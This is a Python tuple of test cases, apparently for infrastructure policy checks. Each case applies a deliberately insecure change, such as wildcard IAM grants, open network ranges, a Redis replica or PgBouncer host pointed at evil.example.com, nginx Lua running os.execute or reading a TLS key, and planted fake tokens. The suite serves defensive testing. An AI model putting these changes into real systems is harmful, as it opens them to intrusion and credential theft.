    ("edge-set-cookie-bypass", "no guard", _without_the_last_rule("edge-response-cache-settings")),
    ("iam-no-wildcard", "NotAction", _identity(NotAction="iam:*", Resource="arn:aws:s3:::x")),
    ("iam-no-wildcard", "NotResource", _identity(Action="s3:GetObject", NotResource="arn:aws:s3:::x")),
    ("iam-no-wildcard", "iam:Pass*", _identity(Action="iam:Pass*", Resource="arn:aws:iam::1:role/x")),
    ("iam-no-wildcard", "part of a name", _identity(Action="secretsmanager:Get*", Resource="arn:aws:s3:::x")),
    ("iam-no-wildcard", "every bucket", _identity(Action="s3:GetObject", Resource="arn:aws:s3:::*")),
    (
        "iam-no-wildcard",
        "a condition that is always met",
        _identity(Action="s3:GetObject", Resource="*", Condition={"StringLike": {"aws:PrincipalArn": "*"}}),
    ),
    (
        "iam-no-wildcard",
        "managed",
        _setter("redis-jobs-role", "managedPolicyArns", ["arn:aws:iam::aws:policy/IAMFullAccess"]),
    ),
    (
        "iam-no-wildcard",
        "inline",
        _setter(
            "redis-jobs-role",
            "inlinePolicies",
            [{"policy": '{"Statement": {"Effect": "Allow", "Action": "*", "Resource": "*"}}'}],
        ),
    ),
    (
        "iam-trust-limited",
        "any account of the namespace",
        _trust(StringLike={"oidc:sub": "system:serviceaccount:simone:*"}),
    ),
    (
        "iam-trust-limited",
        "where a subject is there",
        _trust(StringEqualsIfExists={"oidc:sub": "system:serviceaccount:a:b"}),
    ),
    ("iam-trust-limited", "all but one", _trust(StringNotEquals={"oidc:sub": "system:serviceaccount:a:b"})),
    (
        "aws-resource-policies-closed",
        "queue",
        _new(
            "aws:sqs/queue:Queue",
            policy='{"Statement": [{"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "sqs:SendMessage"}]}',
        ),
    ),
    (
        "s3-policy-closed",
        "NotPrincipal",
        _policy("redis-backups-policy", {"Effect": "Allow", "NotPrincipal": {"AWS": "1"}, "Action": "s3:GetObject"}),
    ),
    ("kubernetes-rbac-limited", "escalate", _role(verbs=["escalate"])),
    ("kubernetes-rbac-limited", "pods/exec", _role(resources=["pods/exec"], verbs=["create"])),
    ("kubernetes-rbac-limited", "makes pods", _role(verbs=["create"])),
    ("kubernetes-rbac-limited", "tokens", _role(resources=["serviceaccounts/token"], verbs=["create"])),
    ("kubernetes-rbac-limited", "all of the API", _role(nonResourceURLs=["*"])),
    ("kubernetes-rbac-limited", "everybody", _binding("Group", "system:authenticated")),
    ("kubernetes-rbac-limited", "nobody known", _binding("Group", "system:unauthenticated")),
    ("kubernetes-rbac-limited", "anonymous", _binding("User", "system:anonymous")),
    (
        "kubernetes-network-policies",
        "out to anywhere",
        _peer("network-api", egress={"to": [{"ipBlock": {"cidr": "0.0.0.0/0"}}]}),
    ),
    (
        "kubernetes-network-policies",
        "out by IPv6",
        _peer("network-api", egress={"to": [{"ipBlock": {"cidr": "::/0"}}], "ports": [{"port": 25}]}),
    ),
    (
        "kubernetes-network-policies",
        "all namespaces",
        _peer("network-api", ingress={"from": [{"namespaceSelector": {}}]}),
    ),
    (
        "kubernetes-network-policies",
        "storefront to Redis",
        _peer(
            "network-redis",
            ingress={"from": [{"podSelector": {"matchLabels": {"app.kubernetes.io/name": "storefront"}}}]},
        ),
    ),
    (
        "kubernetes-network-policies",
        "halves",
        _peer(
            "network-api", ingress={"from": [{"ipBlock": {"cidr": "0.0.0.0/1"}}, {"ipBlock": {"cidr": "128.0.0.0/1"}}]}
        ),
    ),
    ("kubernetes-services-closed", "halves", _door("0.0.0.0/1", "128.0.0.0/1")),
    ("kubernetes-services-closed", "put together", _door(*(f"{number}.0.0.0/8" for number in range(256)))),
    ("kubernetes-services-closed", "IPv6", _door("173.245.48.0/20", "::/1")),
    ("kubernetes-services-closed", "externalIPs", _setter_below("api-service", "externalIPs", ["203.0.113.7"])),
    ("security-group-closed", "half", _setter("postgres-firewall-cluster", "cidrIpv4", "0.0.0.0/1")),
    (
        "security-group-closed",
        "put together",
        _setter("postgres-firewall", "ingress", [{"cidrBlocks": ["10.0.0.0/16", "10.1.0.0/16"], "protocol": "tcp"}]),
    ),
    ("kubernetes-pods-restricted", "Pod", _pod("core/v1:Pod", "spec")),
    ("kubernetes-pods-restricted", "ReplicaSet", _pod("apps/v1:ReplicaSet", "spec", "template", "spec")),
    ("kubernetes-pods-restricted", "DaemonSet", _pod("apps/v1:DaemonSet", "spec", "template", "spec")),
    ("kubernetes-pods-restricted", "Job", _pod("batch/v1:Job", "spec", "template", "spec")),
    (
        "kubernetes-pods-restricted",
        "CronJob",
        _pod("batch/v1:CronJob", "spec", "jobTemplate", "spec", "template", "spec"),
    ),
    ("kubernetes-pods-restricted", "init container", _more_containers("initContainers")),
    ("kubernetes-pods-restricted", "ephemeral container", _more_containers("ephemeralContainers")),
    (
        "kubernetes-pods-restricted",
        "network volume",
        lambda stack: stack.pod(BALANCER)["volumes"].append({"name": "more", "nfs": {"server": "x", "path": "/"}}),
    ),
    (
        "kubernetes-images-fixed",
        "registry",
        lambda stack: stack.container(BALANCER).update(image="evil.example.com/x:1.0"),
    ),
    ("types-are-judged", "chart", _new("kubernetes:helm.sh/v3:Release", chart="x")),
    ("types-are-judged", "provider of another", _new("random:index/randomPassword:RandomPassword", length=8)),
    ("gateway-hardened", "old TLS", _text("gateway-config", "nginx.conf", "ssl_protocols ", "ssl_protocols TLSv1 ")),
    (
        "gateway-hardened",
        "everybody is the edge",
        _text("gateway-config", "nginx.conf", "set_real_ip_from 173.245.48.0/20;", "set_real_ip_from 0.0.0.0/0;"),
    ),
    ("gateway-hardened", "cookies", _text("gateway-config", "nginx.conf", "proxy_no_cache $unkept;", "")),
    ("gateway-hardened", "cookies, by the script", _text("gateway-config", "routes.json", '"Set-Cookie"', '"X-None"')),
    ("gateway-configuration-read", "no directive", _nginx("server_tokens off", "server_token off")),
    (
        "gateway-hardened",
        "another CA",
        _nginx("ssl_client_certificate /etc/gateway/edge-ca.pem", "ssl_client_certificate /etc/ssl/certs/all.pem"),
    ),
    ("gateway-hardened", "a certificate if there is one", _nginx("ssl_verify_client on", "ssl_verify_client optional")),
    ("gateway-hardened", "without TLS", _nginx("listen @POD_IP@:8443 ssl http2;", "listen @POD_IP@:8443;")),
    ("gateway-hardened", "nginx's own protocols", _nginx("ssl_protocols TLSv1.2 TLSv1.3;", "")),
    ("gateway-hardened", "ciphers", _nginx("server_tokens off;", "server_tokens off; ssl_ciphers ALL:aNULL;")),
    (
        "gateway-hardened",
        "addresses by a header",
        _nginx("real_ip_header CF-Connecting-IP", "real_ip_header X-Real-IP"),
    ),
    (
        "gateway-hardened",
        "everybody is believed",
        _nginx("        default 0;\n        173.", "        default 1;\n        173."),
    ),
    ("gateway-hardened", "whole networks are believed", _nginx("173.245.48.0/20 1;", "0.0.0.0/0 1;")),
    (
        "gateway-hardened",
        "a visitor's own word",
        _nginx("X-Forwarded-For $remote_addr", "X-Forwarded-For $proxy_add_x_forwarded_for"),
    ),
    ("gateway-hardened", "another origin", _nginx("server @API@", "server evil.example.com:443")),
    ("gateway-hardened", "an origin of the visitor's", _location("location /fetch { proxy_pass $arg_url; }")),
    ("gateway-hardened", "purges", _location("location /purge { content_by_lua_block { shield.purge() } }")),
    (
        "gateway-keeps-nothing-personal",
        "the cart",
        _location('location = /api/cart { proxy_pass http://api; proxy_cache shield; proxy_cache_key "$uri"; }'),
    ),
    (
        "gateway-keeps-nothing-personal",
        "by a regular expression",
        _location('location ~ "/orders" { proxy_pass http://api; proxy_cache shield; proxy_cache_key "$uri"; }'),
    ),
    ("gateway-keeps-nothing-personal", "one key", _nginx("proxy_cache_key $shield_key", "proxy_cache_key shop")),
    ("gateway-keeps-nothing-personal", "headers", _nginx("proxy_pass_request_headers off;", "")),
    (
        "gateway-keeps-nothing-personal",
        "a year",
        _nginx("proxy_cache_valid 200 301 308 300s", "proxy_cache_valid 200 1y"),
    ),
    ("gateway-keeps-nothing-personal", "any status", _nginx("proxy_cache_valid 500 30s", "proxy_cache_valid any 30s")),
    ("gateway-limits", "connections", _nginx("limit_conn connections 100;", "")),
    ("gateway-limits", "rate", _nginx("rate=50r/s", "rate=50000r/s")),
    ("gateway-limits", "bodies", _nginx("client_max_body_size 262144", "client_max_body_size 0")),
    ("gateway-limits", "queries in the log", _nginx('"path":"$uri"', '"path":"$request_uri"')),
    ("gateway-limits", "cookies in the log", _nginx('"path":"$uri"', '"path":"$uri","user":"$http_cookie"')),
    ("gateway-limits", "errors in full", _nginx("error_log stderr warn", "error_log stderr debug")),
    ("redis-authentication", "users from nowhere", _redis("aclfile /dev/null")),
    ("redis-authentication", "users from nowhere, of Sentinel", _sentinel("aclfile /dev/null")),
    (
        "redis-authentication",
        "the default user, on again",
        _text("redis-node-secrets", "users.acl", "user default off", "user default off on >x"),
    ),
    ("redis-least-privilege", "capitals", _acl("~*", "-@DANGEROUS", "+@ALL")),
    ("redis-least-privilege", "capitals, in a word", _acl("~*", "ALLCOMMANDS")),
    ("redis-least-privilege", "deletes all", _acl("~*", "+flushall")),
    ("redis-least-privilege", "sees all", _acl("~*", "+monitor")),
    ("redis-least-privilege", "configures", _acl("~*", "+config|set")),
    ("redis-not-open", "if it is there", _redis("bind -::*")),
    ("redis-settings", "debugging", _redis("enable-debug-command yes")),
    ("redis-settings", "modules at run time", _redis("ENABLE-MODULE-COMMAND yes")),
    ("redis-settings", "protected settings", _redis("enable-protected-configs local")),
    ("redis-settings", "a module", _redis("loadmodule /data/more.so")),
    ("redis-settings", "another master", _redis("replicaof evil.example.com 6379")),
    ("redis-settings", "no volume", _redis("dir /tmp")),
    ("redis-settings", "writes refused", _redis("min-replicas-to-write 1")),
    ("redis-settings", "few clients", _redis("maxclients 10")),
    ("redis-settings", "no sync meanwhile", _redis("no-appendfsync-on-rewrite yes")),
    ("redis-settings", "no log", _redis("logfile /dev/null")),
    ("redis-settings", "late failover", _sentinel("sentinel down-after-milliseconds data 600000")),
    ("redis-settings", "long failover", _sentinel("sentinel failover-timeout data 6000000")),
    ("redis-settings", "scripts", _sentinel("sentinel notification-script data /data/more.sh")),
    ("redis-settings", "scripts at run time", _sentinel("sentinel deny-scripts-reconfig no")),
    ("pgbouncer-settings", "users from a file", _pgbouncer("auth_file = /tmp/users.txt")),
    ("pgbouncer-settings", "old TLS", _pgbouncer("server_tls_protocols = tlsv1.0,tlsv1.2")),
    ("pgbouncer-settings", "everywhere", _pgbouncer("listen_addr = *")),
    ("pgbouncer-settings", "for ever", _pgbouncer("query_wait_timeout = 0")),
    ("pgbouncer-settings", "few clients", _pgbouncer("max_client_conn = 5")),
    (
        "pgbouncer-settings",
        "one user",
        _text("pgbouncer-config", "pgbouncer.ini", "dbname=simone", "dbname=simone user=x"),
    ),
    ("pgbouncer-settings", "every name", _text("pgbouncer-config", "pgbouncer.ini", "simone = host", "* = host")),
    (
        "pgbouncer-settings",
        "another host",
        _text("pgbouncer-config", "pgbouncer.ini", "host=${DATABASE_HOST}", "host=evil.example.com"),
    ),
    ("redis-least-privilege", "the last word", _acl("~*", "-@dangerous", "+@all")),
    ("redis-least-privilege", "category", _acl("~*", "+@dangerous")),
    ("redis-least-privilege", "selector", _acl("(+@all ~*)")),
    ("redis-least-privilege", "command", _acl("~*", "+config")),
    ("redis-authentication", "password taken back", _acl("resetpass", "~*", "+get")),
    ("redis-authentication", "in redis.conf", _redis("user more on nopass ~* +get")),
    ("redis-authentication", "another file", _redis("include /data/more.conf")),
    ("redis-persistence", "the last word", _redis("appendonly no")),
    ("redis-persistence", "no snapshots in the end", _redis('save ""')),
    ("redis-not-open", "the last word", _redis("protected-mode no")),
    ("redis-eviction-policy", "the last word", _redis("maxmemory-policy noeviction")),
    ("redis-sentinel-quorum", "all of them", _all_sentinels),
    ("redis-backup", "once a week", _setter_below("redis-backup", "schedule", "0 3 * * 0")),
    (
        "s3-backups-kept",
        "old versions",
        lambda stack: stack["redis-backups-lifecycle"]["rules"].append(
            {"status": "Enabled", "noncurrentVersionExpiration": {"noncurrentDays": 1}}
        ),
    ),
    (
        "pgbouncer-pool-mode",
        "of one database",
        _text("pgbouncer-config", "pgbouncer.ini", "dbname=simone", "dbname=simone pool_mode=session"),
    ),
    (
        "pgbouncer-pools-fit",
        "of one database",
        _text("pgbouncer-config", "pgbouncer.ini", "dbname=simone", "dbname=simone max_db_connections=0"),
    ),
    (
        "pgbouncer-pools-fit",
        "formula",
        _parameter("max_connections", "{DBInstanceClassMemory/999999999}", "pending-reboot"),
    ),
    ("postgres-apply-method", "max_wal_senders", _parameter("max_wal_senders", "20")),
    ("postgres-apply-method", "rds.logical_replication", _parameter("rds.logical_replication", "1")),
    ("postgres-apply-method", "huge_pages", _parameter("huge_pages", "off")),
    ("postgres-apply-method", "no parameter", _parameter("shared_bufers", "1000")),
    ("postgres-apply-method", "of a later version", _parameter("transaction_timeout", "1000")),
    ("postgres-apply-method", "a family that nobody knows", _setter(GROUP, "family", "postgres12")),
    ("postgres-apply-method", "of a library that isn't loaded", _parameter("pg_cron.log_run", "1")),
    ("postgres-apply-method", "out of its bounds", _parameter("max_worker_processes", "300000", "pending-reboot")),
    ("postgres-apply-method", "with a unit", _parameter("work_mem", "64MB")),
    ("postgres-apply-method", "no switch", _parameter("jit", "maybe")),
    ("postgres-apply-method", "none of its values", _parameter("wal_level", "full", "pending-reboot")),
    ("postgres-apply-method", "only to be read", _parameter("block_size", "16384")),
    ("postgres-apply-method", "static of a library", _parameter("pg_stat_statements.max", "5000")),
    (
        "postgres-parameters-fit",
        "formula",
        _parameter("shared_buffers", "{DBInstanceClassMemory/8192}", "pending-reboot"),
    ),
    ("postgres-placed", "storage", _setter(INSTANCE, "storageType", "io1")),
    ("postgres-placed", "no such zone", _setter(INSTANCE, "availabilityZone", "eu-central-1z")),
    ("postgres-changed-with-care", "major", _setter(INSTANCE, "allowMajorVersionUpgrade", True)),
    ("alerts-can-fire", "no PromQL", _alert('expr: "sum(rate(x[5m])"')),
    ("alerts-can-fire", "one of 0 and 1", _alert("expr: up == 2")),
    ("alerts-can-fire", "absent is 1", _alert("expr: absent(up) == 0")),
    ("alerts-can-fire", "nothing isn't 0", _alert("expr: count(up == 0) < 1")),
    ("alerts-can-fire", "a chain", _alert('expr: "(x > 5) < 3"')),
    ("alerts-can-fire", "a contradiction", _alert('expr: "x > 5 and x < 3"')),
    ("alerts-can-fire", "both labels", _alert('expr: \'up{job="a",job="b"} == 0\'')),
    ("alerts-can-fire", "not itself", _alert('expr: "x != x"')),
    ("alerts-can-fire", "a negative share", _alert('expr: "sum(rate(x[5m])) / sum(rate(y[5m])) < 0"')),
    ("alerts-can-fire", "a bound", _alert('expr: "clamp_max(x, 1) > 2"')),
    ("alerts-can-fire", "always there", _alert('expr: "x > bool 5"')),
    ("alerts-can-fire", "a range", _alert('expr: "up[5m]"')),
    ("alerts-can-fire", "a text", _alert("expr: '\"x\"'")),
    ("alerts-can-fire", "no expression", _alert("for: 5m")),
    ("alerts-can-fire", "no duration", _alert("expr: up == 0", "for: 5 min")),
    ("alerts-can-fire", "for ever", _alert("expr: up == 0", "keep_firing_for: 60d")),
    ("alerts-can-fire", "a recorded rule", _recorded("rules:", "  - record: a:b", "    expr: sum(")),
    ("alerts-can-fire", "seldom", _recorded("interval: 30d", "rules:", "  - record: a:b", "    expr: sum(up)")),
    (
        "alerts-can-fire",
        "nobody is told",
        _recorded("rules:", "  - alert: A", "    expr: up == 0", "    labels: {severity: none}"),
    ),
    ("alerts-can-fire", "numbers", _alert('expr: "vector(0) > 1"')),
    ("alerts-can-fire", "negative rate", _alert('expr: "rate(http_requests_total[5m]) < 0"')),
    ("alerts-can-fire", "a month", _alert("expr: up == 0", "for: 30d")),
    *(("alerts-can-fire", text, _expression(text)) for text in NEVER_OR_ALWAYS),
    *(
        ("alerts-reach-somebody", way, breaks)
        for way, breaks in (
            ("nobody", _alertmanager("  receiver: ticket\n  group_by", "  receiver: nobody\n  group_by")),
            ("another", _alertmanager("    receiver: page", "    receiver: ticket")),
            ("no such severity", _alertmanager('severity="page"', 'severity="pag"')),
            ("all to tickets", _first_route('alertname=~".+"', "ticket")),
            ("some to tickets", _first_route('alertname=~"Redis.*"', "ticket")),
            ("everything hidden", _inhibited('severity="page"', 'severity=~".+"')),
            ("hidden for ever", _inhibited('alertname="DeadMansSwitch"', 'alertname="ApiDown"')),
            ("hidden by a lesser one", _inhibited('alertname="CacheHitRatioLow"', 'alertname="ApiDown"')),
            (
                "hidden, in the older syntax",
                _alertmanager(
                    "inhibit_rules:",
                    "inhibit_rules:\n- source_match: {severity: ticket}\n  target_match_re: {alertname: .+}",
                ),
            ),
            ("once a month", _alertmanager("repeat_interval: 12h", "repeat_interval: 30d")),
            ("a day late", _alertmanager("group_wait: 10s", "group_wait: 1d")),
            ("muted", _alertmanager("    receiver: page", "    receiver: page\n    mute_time_intervals: [x]")),
            ("by a proxy", _alertmanager("route:\n", 'global: {http_config: {proxy_url: "http://x"}}\nroute:\n')),
            ("never over", _alertmanager("- name: page\n", "- name: page\n  x: [{send_resolved: false}]\n")),
            ("no matcher", _alertmanager('severity="page"', "severity is page")),
            ("no configuration", lambda stack: stack.drop("monitoring-alertmanager-config")),
        )
    ),
    *(
        ("prometheus-watches", way, breaks)
        for way, breaks in (
            ("no rules", _prometheus("/etc/prometheus/rules/*.yml", "/etc/prometheus/rules/none.yml")),
            (
                "alerts dropped",
                _prometheus("alerting:\n", "alerting:\n  alert_relabel_configs: [{action: drop, regex: .*}]\n"),
            ),
            (
                "metrics dropped",
                _prometheus(
                    "- job_name: pods\n",
                    "- job_name: pods\n  metric_relabel_configs: [{action: drop, regex: redis_up}]\n",
                ),
            ),
            ("sent elsewhere", _prometheus("rule_files:", "remote_write: [{url: 'https://x'}]\nrule_files:")),
            ("seldom asked", _prometheus("scrape_interval: 15s", "scrape_interval: 1h")),
            ("seldom judged", _prometheus("evaluation_interval: 15s", "evaluation_interval: 30m")),
            ("nobody told", _prometheus("      regex: alertmanager\n", "      regex: nothing\n")),
            ("a job gone", _prometheus("- role: node", "- role: service")),
            ("a system gone", _prometheus("regex: redis-sentinel\n", "regex: x\n    action: drop\n  - regex: y\n")),
            ("of no pods", _prometheus("regex: 'true'", "regex: 'yes'")),
        )
    ),
    *(
        ("gateway-runs-its-own", way, breaks)
        for way, breaks in (
            ("alias", _location("location /files { alias /etc/; }")),
            ("root", _location("location /files { root /; }")),
            ("stub_status", _location("location /status { stub_status; }")),
            ("rewrite", _location("location /x { rewrite ^ http://evil.example.com/ permanent; }")),
            ("redirect", _location("location /x { return 302 $arg_next; }")),
            ("redirect without a status", _location("location /x { return https://evil.example.com; }")),
            ("other origins", _nginx("add_header Retry-After 5", "add_header Access-Control-Allow-Origin *")),
            ("Lua", _nginx("metrics.print()", 'ngx.say(io.open("/etc/gateway-tls/origin-key.pem"):read("*a"))')),
            ("Lua from a file", _location("location /x { content_by_lua_file /tmp/x.lua; }")),
            ("Lua from elsewhere", _nginx('lua_package_path "/etc/gateway/?.lua;;"', 'lua_package_path "/tmp/?.lua"')),
            ("a module", _nginx("/usr/lib/nginx/modules/ndk_http", "/tmp/ndk_http")),
            ("a program", _lua("shield.lua", 'os.execute("id")')),
            ("a program, by a pipe", _lua("metrics.lua", 'io.popen("id")')),
            ("a socket", _lua("metrics.lua", "ngx.socket.tcp()")),
            ("code", _lua("metrics.lua", "loadstring(ngx.var.arg_x)()")),
            ("a library", _lua("metrics.lua", 'local http = require "resty.http"')),
            ("C", _lua("shield.lua", 'ffi.C.system("id")')),
            ("by another name", _lua("shield.lua", '_G["o" .. "s"].execute("id")')),
        )
    ),
    ("gateway-hardened", "metrics", _location("location = /m { content_by_lua_block { metrics.print() } }")),
    ("gateway-hardened", "another Host", _nginx("proxy_set_header Host $host", "proxy_set_header Host $http_x_host")),
    ("kubernetes-jobs-end", "never", _run("redis-backup", activeDeadlineSeconds=None)),
    ("kubernetes-jobs-end", "at once", _run("redis-backup", activeDeadlineSeconds=10)),
    ("kubernetes-jobs-end", "again and again", _run("redis-backup", backoffLimit=1000)),
    ("kubernetes-jobs-end", "beside itself", _run("redis-backup", parallelism=50)),
    ("kubernetes-resources", "more than a node", _asking(requests={"cpu": "1", "memory": "10Ti"})),
    ("kubernetes-resources", "nothing", _asking(requests={"cpu": "0", "memory": "1Mi"})),
    (
        "kubernetes-resources",
        "above its limit",
        _asking(requests={"cpu": "1", "memory": "2Gi"}, limits={"memory": "1Gi"}),
    ),
    ("kubernetes-priorities", "above all", _new("kubernetes:scheduling.k8s.io/v1:PriorityClass", value=2000000000)),
    (
        "kubernetes-own-namespace",
        "the cluster's DNS",
        _new("kubernetes:core/v1:ConfigMap", metadata={"name": "coredns", "namespace": "kube-system"}),
    ),
    ("kubernetes-own-namespace", "default", _new("kubernetes:core/v1:ConfigMap", metadata={"name": "more"})),
    ("kubernetes-autoscalers-fit", "Redis", _scaler("StatefulSet", "redis-data")),
    ("kubernetes-autoscalers-fit", "nothing", _scaler("Deployment", "nothing")),
    ("kubernetes-autoscalers-fit", "twice", _scaler("Deployment", "api")),
    ("kubernetes-disruption-budgets", "two", _copied("api-budget")),
    (
        "alerts-can-fire",
        "no heartbeat",
        _text("monitoring-prometheus-rules", "monitoring.yml", "severity: heartbeat", "severity: ticket"),
    ),
    (
        "alerts-can-fire",
        "a heartbeat that stops",
        _text("monitoring-prometheus-rules", "monitoring.yml", "expr: vector(1)", "expr: up == 0"),
    ),
    ("exporters-are-there", "no alert", lambda stack: stack.drop("monitoring-prometheus-rules")),
    ("edge-authorization-bypass", "never met", _never_matches),
    (
        "edge-switched-on",
        "HSTS",
        _setter("edge-setting-security-header", "value", {"strict_transport_security": {"enabled": False}}),
    ),
    (
        "edge-guarded",
        "past the firewall",
        lambda stack: stack.add(RULESET, "more", _zone_rules({"ref": "x", "action": "skip", "expression": "true"})),
    ),
    (
        "edge-proxied",
        "record",
        _new("cloudflare:index/dnsRecord:DnsRecord", name="www", type="A", content="203.0.113.7", proxied=False),
    ),
    ("edge-switched-on", "HTTPS, by leaving it out", lambda stack: stack.drop("edge-setting-always-use-https")),
    ("edge-switched-on", "HSTS, by leaving it out", lambda stack: stack.drop("edge-setting-security-header")),
    ("edge-switched-on", "requests before the handshake", _new(SETTING, settingId="0rtt", value="on")),
    ("edge-minimum-tls", "ciphers", _new(SETTING, settingId="ciphers", value=["AES128-SHA"])),
    ("edge-guarded", "pulls, by leaving them out", lambda stack: stack.drop("edge-origin-pulls")),
    ("edge-guarded", "the firewall", _new(SETTING, settingId="waf", value="off")),
    (
        "edge-guarded",
        "rules of the firewall",
        lambda stack: stack.add(
            RULESET,
            "more",
            _zone_rules(
                {"ref": "x", "action": "execute", "actionParameters": {"overrides": {"enabled": False}}},
                phase="http_request_firewall_managed",
            ),
        ),
    ),
    ("edge-lifetimes", "browsers", _setter("edge-setting-browser-cache-ttl", "value", 31536000)),
    (
        "edge-lifetimes",
        "an overriding rule",
        lambda stack: _action(stack, "keep-home").update(edgeTtl={"mode": "override_origin", "default": 31536000}),
    ),
    (
        "edge-lifetimes",
        "faults",
        lambda stack: _action(stack, "keep-home")["edgeTtl"].update(
            statusCodeTtls=[{"statusCode": 500, "value": 31536000}]
        ),
    ),
    ("edge-lifetimes", "stale", lambda stack: _action(stack, "lifetime-home")["staleIfError"].update(value=31536000)),
    ("edge-personal-routes", "by host", _caching_too('http.host eq "www.simone-webshop.com"')),
    ("edge-personal-routes", "by cookie", _caching_too('http.cookie contains "session"')),
    ("edge-personal-routes", "files", lambda stack: stack["edge-request-cache-settings"]["rules"].pop(0)),
    (
        "edge-authorization-bypass",
        "switched off",
        lambda stack: stack["edge-request-cache-settings"]["rules"][-1].update(enabled=False),
    ),
    (
        "edge-set-cookie-bypass",
        "switched off",
        lambda stack: stack["edge-response-cache-settings"]["rules"][-1].update(enabled=False),
    ),
    (
        "edge-keys-tell-apart",
        "one parameter",
        lambda stack: _action(stack, "keep-api-products")["cacheKey"]["customKey"]["queryString"]["include"].update(
            lists=["cursor"]
        ),
    ),
    ("edge-keys-tell-apart", "the whole zone", _new(SETTING, settingId="cache_level", value="simplified")),
    (
        "edge-phases",
        "another origin",
        lambda stack: stack.add(RULESET, "more", _zone_rules(phase="http_request_origin")),
    ),
    (
        "edge-redirects-home",
        "without TLS",
        lambda stack: _action(stack, "other-names")["fromValue"].update(
            targetUrl={"expression": 'concat("http://www.simone-webshop.com", http.request.uri.path)'}
        ),
    ),
    (
        "edge-redirects-home",
        "where the visitor says",
        lambda stack: _action(stack, "other-names")["fromValue"].update(targetUrl={"expression": "http.referer"}),
    ),
    (
        "edge-headers",
        "browsers' protections",
        lambda stack: _action(stack, "security-headers")["headers"].pop("X-Frame-Options"),
    ),
    ("kubernetes-disruption-budgets", "none", _setter_below("redis-data-budget", "maxUnavailable", 0)),
    (
        "kubernetes-disruption-budgets",
        "all must stay",
        lambda stack: stack["redis-data-budget"]["spec"].update(maxUnavailable=None, minAvailable=2),
    ),
    ("kubernetes-quota-fits", "pods", _setter_below("network-quota", "hard", {"pods": "10"})),
    ("kubernetes-volumes-kept", "class", _new("kubernetes:storage.k8s.io/v1:StorageClass", reclaimPolicy="Delete")),
    ("kubernetes-schedules", "seconds", _scheduled(schedule="0 0 3 * * *")),
    ("kubernetes-schedules", "a zone in the schedule", _scheduled(schedule="TZ=Europe/Berlin 0 3 * * *")),
    ("kubernetes-schedules", "no such zone", _scheduled(timeZone="Mars/Phobos")),
    ("kubernetes-schedules", "no such day", _scheduled(schedule="0 3 * * 8")),
    ("kubernetes-schedules", "no minute", _scheduled(schedule="60 3 * * *")),
    ("kubernetes-schedules", "no step", _scheduled(schedule="*/0 3 * * *")),
    ("kubernetes-schedules", "started too late", _scheduled(startingDeadlineSeconds=5)),
    ("kubernetes-schedules", "31 February", _setter_below("redis-backup", "schedule", "0 3 31 2 *")),
    ("kubernetes-no-plain-secrets", "JWT", _argument("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl")),
    ("kubernetes-no-plain-secrets", "GitHub", _in_a_config_map("x ghp_0123456789abcdefghijABCDEFGHIJ012345")),
    ("kubernetes-no-plain-secrets", "Stripe", _in_a_config_map("x " + "sk_live" + "_0123456789abcdefghijklmn")),
    (
        "kubernetes-no-plain-secrets",
        "base64",
        _in_a_config_map("x " + base64.b64encode(b"postgres://app:hunter2hunter2@db/simone").decode()),
    ),
    *(
        (
            "kubernetes-no-plain-secrets",
            name,
            lambda stack, name=name: stack.container(BALANCER)["env"].append({"name": name, "value": "correct horse"}),
        )
        for name in (
            "JWT_SECRET",
            "clientSecret",
            "AWS_SECRET_ACCESS_KEY",
            "SECRET_KEY",
            "passphrase",
            "DB_PASS",
            "pwd",
        )
    ),
    (
        "no-plain-secrets",
        "in JSON in a text",
        _setter("postgres-firewall", "tags", {"x": '[{"name": "DB_PASS", "value": "correct horse"}]'}),
    ),
    (
        "no-plain-secrets",
        "key and value",
        _setter("postgres-firewall", "x", [{"Key": "apiKey", "Value": "correct horse"}]),
    ),
    ("s3-owner-enforced", "in the bucket itself", _setter("redis-backups-bucket", "acl", "public-read")),
    (
        "s3-policy-closed",
        "in the bucket itself",
        _setter(
            "redis-backups-bucket",
            "policy",
            '{"Statement": {"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject"}}',
        ),
    ),
    (
        "kubernetes-network-policies",
        "all namespaces but one",
        _peer(
            "network-api",
            ingress={
                "from": [
                    {
                        "namespaceSelector": {
                            "matchExpressions": [{"key": "kubernetes.io/metadata.name", "operator": "Exists"}]
                        }
                    }
                ]
            },
        ),
    ),
    (
        "kubernetes-disruption-budgets",
        "all must stay, as a share",
        lambda stack: stack["redis-data-budget"]["spec"].update(maxUnavailable=None, minAvailable="60%"),
    ),
    (
        "kubernetes-disruption-budgets",
        "an autoscaler's fewest must stay",
        lambda stack: stack["api-budget"]["spec"].update(
            maxUnavailable=None, minAvailable=stack["api-autoscaler"]["spec"]["minReplicas"]
        ),
    ),
    ("kubernetes-quota-fits", "storage", _setter_below("network-quota", "hard", {"requests.storage": "1Gi"})),
    ("kubernetes-quota-fits", "services", _setter_below("network-quota", "hard", {"services": "2"})),
    ("kubernetes-quota-fits", "claims", _setter_below("network-quota", "hard", {"persistentvolumeclaims": "1"})),
    (
        "names-are-unique",
        "in the account",
        lambda stack: stack.add("aws:iam/role:Role", "more", dict(stack["redis-jobs-role"])),
    ),
    ("no-plain-secrets", "percent-encoded", _annotation("postgres%3A%2F%2Fapp%3Ahunter2hunter2%40db%2Fsimone")),
    (
        "kubernetes-no-plain-secrets",
        "base64 of base64",
        _in_a_config_map(
            "x " + base64.b64encode(base64.b64encode(b"postgres://app:hunter2hunter2@db/simone")).decode()
        ),
    ),
    ("postgres-statement-logging", "every statement, by its duration", _parameter("log_min_duration_statement", "0")),
    *(
        ("s3-tls-only", way, lambda stack, changed=changed: _statement("redis-backups-policy", 0, **changed)(stack))
        for way, changed in NARROWED.items()
    ),
    (
        "kubernetes-tokens-wanted",
        "in a volume",
        lambda stack: stack.pod(BALANCER)["volumes"].append(
            {"name": "more", "projected": {"sources": [{"serviceAccountToken": {"path": "token"}}]}}
        ),
    ),
    (
        "kubernetes-services-closed",
        "by an annotation",
        lambda stack: stack["gateway-services-door"]["metadata"]["annotations"].update(
            {"service.beta.kubernetes.io/load-balancer-source-ranges": "0.0.0.0/0"}
        ),
    ),
    ("gateway-runs-its-own", "an error's page", _location("error_page 404 =302 http://evil.example.com;")),
    ("no-plain-secrets", "annotation", _annotation("ghp_0123456789abcdefghijABCDEFGHIJ012345")),
    ("no-plain-secrets", "by its name", _setter("postgres-firewall", "tags", {"connectionString": "Server=x;Pwd=y"})),
)
"""Further ways to break some of them: rule, what it is, the change."""


